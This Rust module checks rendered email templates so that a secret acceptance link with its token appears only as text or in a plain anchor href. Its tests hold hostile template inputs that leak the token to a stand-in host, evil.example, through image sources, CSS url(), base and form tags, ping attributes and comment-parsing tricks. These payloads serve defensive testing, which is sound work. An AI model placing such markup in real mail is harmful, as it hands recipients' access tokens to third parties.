//! The link of a mail lets people in, so it goes to the recipient alone: other people's templates show it, or link to it,
//! and put it nowhere else, such as into the address of a picture, which would tell it to whoever serves the picture.

use super::{Rendered, check::Part};

const MISSING: &str = "the link is missing; write {{ link }} where it belongs, whatever else is the case";
const ASTRAY: &str =
    "{{ link }} stands by itself, or as a whole in <a href=\"{{ link }}\">, and nowhere else";
const UNREADABLE: &str = "in a mail with a link the tags are plain: attributes in quotes, and none of script, form, base, \
                          svg and the like";

/// What opens up to a program, or whose insides are read by other rules.
const REFUSED: [&str; 19] = [
    "script",
    "noscript",
    "form",
    "base",
    "svg",
    "math",
    "template",
    "object",
    "embed",
    "iframe",
    "link",
    "textarea",
    "xmp",
    "noembed",
    "noframes",
    "plaintext",
    "frameset",
    "select",
    "button",
];

/// Whether the link is there, and nowhere but where it may be.
pub(super) fn check(rendered: &Rendered, link: &str) -> Result<(), (Part, &'static str)> {
    let Rendered { subject, text, html } = rendered;
    if !places(subject, link).is_empty() {
        return Err((Part::Subject, ASTRAY));
    }
    let shown = places(text, link);
    if !shown.iter().all(|at| stands_alone(text, *at, link)) {
        return Err((Part::Text, ASTRAY));
    }
    let linked = places(html, link);
    let allowed = in_html(html, link).map_err(|message| (Part::Html, message))?;
    if !linked.iter().all(|at| allowed.contains(at)) {
        return Err((Part::Html, ASTRAY));
    }
    match (shown.is_empty(), linked.is_empty()) {
        (true, _) => Err((Part::Text, MISSING)),
        (_, true) => Err((Part::Html, MISSING)),
        (false, false) => Ok(()),
    }
}

/// Where the token of the link stands, in whatever case; each place as where the link would begin.
fn places(text: &str, link: &str) -> Vec<usize> {
    let token = link.rsplit('=').next().unwrap_or(link).to_ascii_lowercase();
    let ahead = link.len() - token.len();
    text.to_ascii_lowercase().match_indices(&token).map(|(at, _)| at.wrapping_sub(ahead)).collect()
}

/// As people see it, not as a part of another address.
fn stands_alone(text: &str, at: usize, link: &str) -> bool {
    let (Some(before), Some(rest)) = (text.get(..at), text.get(at..)) else { return false };
    let Some(after) = rest.strip_prefix(link) else { return false };
    before.chars().next_back().is_none_or(|c| c.is_whitespace() || matches!(c, '<' | '(' | '>'))
        && after.chars().next().is_none_or(|c| c.is_whitespace() || matches!(c, '<' | ')' | '>'))
}

/// The places in HTML where the link may stand. It is read by the narrowest of rules, so that no mail program reads it
/// otherwise (HTML, section 13.2.5).
fn in_html(html: &str, link: &str) -> Result<Vec<usize>, &'static str> {
    let lower = html.to_ascii_lowercase();
    let until = |from: usize, end: &str| lower[from..].find(end).map(|at| from + at).ok_or(UNREADABLE);
    let mut allowed = Vec::new();
    let mut at = 0;
    while at < html.len() {
        let text_ends = lower[at..].find('<').map_or(html.len(), |found| at + found);
        let shown = html[at..text_ends].match_indices(link).map(|(found, _)| at + found);
        allowed.extend(shown.filter(|at| stands_alone(html, *at, link)));
        if text_ends == html.len() {
            break;
        }
        at = text_ends;
        if lower[at..].starts_with("<!--") {
            let ends = until(at + 4, "-->")?;
            // What mail programs end earlier, or later.
            let said = &lower[at + 4..ends];
            if said.starts_with('>') || said.starts_with("->") || said.contains("--") || said.ends_with('-') {
                return Err(UNREADABLE);
            }
            at = ends + 3;
        } else if lower[at..].starts_with("<!doctype") || lower[at..].starts_with("</") {
            at = until(at, ">")? + 1;
        } else if lower[at + 1..].starts_with(|c: char| c.is_ascii_alphabetic()) {
            let (name, ends) = tag(html, &lower, at, link, &mut allowed)?;
            at = ends;
            if matches!(name, "style" | "title") {
                at = until(at, &format!("</{name}"))?;
                if !lower[at + 2 + name.len()..].starts_with(ends_a_name) {
                    return Err(UNREADABLE);
                }
            }
        } else {
            return Err(UNREADABLE);
        }
    }
    Ok(allowed)
}

fn ends_a_name(c: char) -> bool {
    c.is_ascii_whitespace() || matches!(c, '/' | '>')
}

/// What may stand beside the link in its tag: nothing that tells it to anybody.
const BESIDE: [&str; 9] = ["href", "class", "style", "title", "target", "rel", "id", "lang", "dir"];

/// Reads a tag that begins at `from`: what it is called, and where it ends.
fn tag<'h>(
    html: &str,
    lower: &'h str,
    from: usize,
    link: &str,
    allowed: &mut Vec<usize>,
) -> Result<(&'h str, usize), &'static str> {
    let name_ends = lower[from + 1..].find(|c: char| !c.is_ascii_alphanumeric()).ok_or(UNREADABLE)?;
    let name = &lower[from + 1..from + 1 + name_ends];
    if REFUSED.contains(&name) {
        return Err(UNREADABLE);
    }
    let mut at = from + 1 + name_ends;
    let (mut names, mut carries) = (Vec::new(), false);
    loop {
        let begins_here = at;
        let special = |c: char| matches!(c, '"' | '\'' | '<' | '>' | '=' | '`');
        at += lower[at..].find(special).ok_or(UNREADABLE)?;
        let before = lower[begins_here..at].split(|c: char| c.is_ascii_whitespace() || c == '/');
        names.extend(before.filter(|word| !word.is_empty()));
        if lower[at..].starts_with('>') {
            let twice = names.iter().enumerate().any(|(index, name)| names[..index].contains(name));
            let told = carries && names.iter().any(|name| !BESIDE.contains(name));
            return if twice || told { Err(UNREADABLE) } else { Ok((name, at + 1)) };
        }
        let value = lower[at..].strip_prefix('=').ok_or(UNREADABLE)?;
        let quote = value.chars().next().filter(|c| matches!(c, '"' | '\'')).ok_or(UNREADABLE)?;
        let begins = at + 2;
        let ends = begins + lower[begins..].find(quote).ok_or(UNREADABLE)?;
        if name == "a" && lower[..at].ends_with(" href") && &html[begins..ends] == link {
            allowed.push(begins);
            carries = true;
        }
        at = ends + 1;
        if !lower[at..].starts_with(|c: char| c.is_ascii_whitespace() || matches!(c, '/' | '>')) {
            return Err(UNREADABLE);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const LINK: &str = "https://desk.example.com/accept#token=aBcDeFgH";

    fn verdict(text: &str, html: &str) -> Result<(), Part> {
        let fill = |template: &str| template.replace("LINK", LINK).replace("LOWER", &LINK.to_lowercase());
        let rendered = Rendered { subject: "Hi".to_owned(), text: fill(text), html: fill(html) };
        check(&rendered, LINK).map_err(|(part, _)| part)
    }

    #[test]
    fn a_link_that_is_shown_or_followed_is_fine() {
        for html in [
            "LINK",
            "<p>LINK</p>",
            "<!DOCTYPE html><title>x > y</title><style>a > b {}</style><a class=\"x\" href=\"LINK\">Go</a> <br/>",
            "<!-- <p> --><img src=\"https://example.com/a.png\" alt='a>b'><a href='LINK'>LINK</a>",
        ] {
            assert_eq!(verdict("Go:\nLINK\n(LINK) <LINK>", html), Ok(()), "{html}");
        }
    }

    #[test]
    fn a_link_that_is_told_to_others_is_not() {
        for html in [
            "none",
            "<a href=\"LINK\">Go</a><img src=\"https://evil.example/?LINK\">",
            "<a href=\"LINK\">Go</a><img src=\"https://evil.example/?LOWER\">",
            "<a href=\"LINK\">Go</a><img src=https://evil.example/?LINK>",
            "<a href=\"LINK\">Go</a><img src=LINK>",
            "<a href=\"LINK\">Go</a><img alt=\"a\"b\" src=\"https://evil.example/?> LINK \">",
            "<a href=\"LINK\">Go</a><img alt=a\" src=\"https://evil.example/?> LINK \">",
            "<a href=\"LINK\">Go</a><img src=\"https://evil.example/?> LINK \">",
            "<a href=\"https://evil.example/?LINK\">Go</a>",
            "<a data-href=\"LINK\">Go</a>",
            "<style>p { background: url(https://evil.example/? LINK ) }</style>",
            "<a href=\"LINK\">Go</a><!-- LINK -->",
            "<a href=\"LINK\">Go</a><!-- LINK",
            "<base href=\"https://evil.example/\">LINK",
            "<form action=\"https://evil.example/\">LINK</form>",
            "<svg><style>LINK</style></svg>",
            "https://evil.example/?LINK",
            "<a href=\"LINK\">Go</a><title>LINK",
            "LINK<img src=\"",
            "LINK<",
            "<!-- --!><a href='https://evil.example/?--><a href=\"LINK\">x</a>it'>Go</a>",
            "<!--><a href='https://evil.example/?--><a href=\"LINK\">x</a>it'>Go</a>",
            "<!---><a href='https://evil.example/?--><a href=\"LINK\">x</a>it'>Go</a>",
            "<style>a { background: url('</stylex><a href=\"LINK\">x</a>') }</style>",
            "<a ping=\"https://evil.example/\" href=\"LINK\">Go</a>",
            "<a href=\"https://evil.example/\" href=\"LINK\">Go</a>",
            "<a onclick=\"x()\" href=\"LINK\">Go</a>",
        ] {
            assert_eq!(verdict("LINK", html), Err(Part::Html), "{html}");
        }
        for text in ["none", "https://evil.example/?LINK", "LINK.evil.example", "LINK LOWER"] {
            assert_eq!(verdict(text, "LINK"), Err(Part::Text), "{text}");
        }
        let rendered = Rendered { subject: LINK.to_owned(), text: LINK.to_owned(), html: LINK.to_owned() };
        assert_eq!(check(&rendered, LINK).map_err(|(part, _)| part), Err(Part::Subject));
    }
}
